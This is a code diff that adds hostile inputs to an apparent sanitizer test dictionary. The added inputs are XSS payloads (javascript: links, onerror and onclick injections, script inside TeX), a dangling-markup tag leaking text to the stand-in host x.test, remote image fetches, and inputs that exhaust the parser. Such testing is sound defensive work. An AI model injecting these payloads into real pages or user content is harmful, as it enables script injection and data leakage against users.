@@ -28,6 +28,14 @@ ATTACKS = {
     "entities": "&lt;script&gt;alert(1)&lt;/script&gt; &#0; &#xD800; &",
     "surrogate": "\ud800 \x00 \x0b",
     "nested": "<div>" * 3000,
+    "commands of TeX": "$\\href{javascript:alert(1)}{x}$ \\[\\require{html}\\style{position:fixed}{x}\\]",
+    "dangling": "<img src='https://x.test/?",
+    "references": "[a][b] ![c][b]\n\n[b]: javascript:alert(1)\n\n<javascript:alert(1)> &#106;avascript&colon;alert(1)",
+    "fence": "```x' onclick='alert(1)\n</code></pre><script>alert(1)</script>\n```\n~~~mermaid\n<script>\n~~~",
+    "noscript": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
+    "srcset": "<img srcset='https://x.test/seen.png 1x'><video poster='https://x.test/seen.png'></video>",
+    "emphasis": "*a" * 5_000,
+    "wide table": "|a" * 900 + "\n" + "|-" * 900 + "\n" + "|a\n" * 1_000,
     "TeX": "$<script>alert(1)</script>$ $$</pre><script>alert(1)</script>$$ \\begin{a}<script>\\end{a}",
 }
 
